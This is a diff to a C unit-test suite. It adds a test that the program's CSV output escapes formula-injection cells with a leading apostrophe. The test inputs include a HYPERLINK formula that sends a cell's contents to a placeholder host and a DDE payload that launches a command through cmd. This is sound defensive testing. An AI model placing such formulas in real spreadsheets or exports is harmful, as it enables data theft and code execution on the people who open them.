@@ -95,6 +95,44 @@ static void test_ndjson_and_csv(void **state)
 	free(out);
 }
 
+/* CSV formula injection (OWASP): a text cell starting with =, +, -, @, a
+ * tab or a CR gets a leading ', so a spreadsheet shows it as text instead
+ * of running it; numbers, negative ones too, are not text cells. */
+static void test_csv_formula_cells(void **state)
+{
+	(void)state;
+	char *out = render_sql(
+		"SELECT '=HYPERLINK(\"http://x.invalid/?\"&A1,\"y\")', -2, -1.5, 1, 'none' "
+		"UNION ALL "
+		"SELECT '+cmd|''/C calc''!A0', 1, 2, 0, 'none' UNION ALL "
+		"SELECT '@SUM(1+1)', 1, 2, 0, 'none' UNION ALL "
+		"SELECT '-2+3', 1, 2, 0, 'none' UNION ALL "
+		"SELECT char(9) || '=1+2', 1, 2, 0, 'none' UNION ALL "
+		"SELECT char(13) || '=1+2', 1, 2, 0, 'none' UNION ALL "
+		"SELECT 'a=b+c', 1, 2, 0, 'none' UNION ALL "
+		"SELECT '=' || printf('%.600c', 'x'), 1, 2, 0, 'none'", RF_CSV, 0);
+	char *want = NULL;
+	size_t len = 0;
+	FILE *f = open_memstream(&want, &len);
+	assert_non_null(f);
+	fprintf(f, "provider,gpu_count,price_hr,available,k8s\n"
+		   "\"'=HYPERLINK(\"\"http://x.invalid/?\"\"&A1,\"\"y\"\")\",-2,-1.5,true,none\n"
+		   "'+cmd|'/C calc'!A0,1,2,false,none\n"
+		   "'@SUM(1+1),1,2,false,none\n"
+		   "'-2+3,1,2,false,none\n"
+		   "'?=1+2,1,2,false,none\n"
+		   "'?=1+2,1,2,false,none\n" /* a CR is '?' in any cell */
+		   "a=b+c,1,2,false,none\n"
+		   "'=");
+	for (int i = 0; i < 600; i++) /* longer than the cell buffer */
+		fputc('x', f);
+	fputs(",1,2,false,none\n", f);
+	fclose(f);
+	assert_string_equal(out, want);
+	free(want);
+	free(out);
+}
+
 static void test_table(void **state)
 {
 	(void)state;
@@ -386,7 +424,7 @@ static void test_values_shown_nested(void **state)
 		const char *want;
 	} cases[] = {
 		{RF_TABLE, "AGE  WHY\n2 h  + 1; - 2.5\n"},
-		{RF_CSV, "age,why\n2 h,+ 1; - 2.5\n"},
+		{RF_CSV, "age,why\n2 h,'+ 1; - 2.5\n"}, /* text that looks like a formula */
 		{RF_NDJSON, "{\"age\":7200,\"why\":[{\"why\":\"+\",\"age\":1},"
 			    "{\"why\":\"-\",\"age\":2.5}]}\n"},
 	};
@@ -433,6 +471,7 @@ int main(void)
 		cmocka_unit_test(test_json),
 		cmocka_unit_test(test_money_for),
 		cmocka_unit_test(test_ndjson_and_csv),
+		cmocka_unit_test(test_csv_formula_cells),
 		cmocka_unit_test(test_control_escapes),
 		cmocka_unit_test(test_json_write),
 		cmocka_unit_test(test_table),
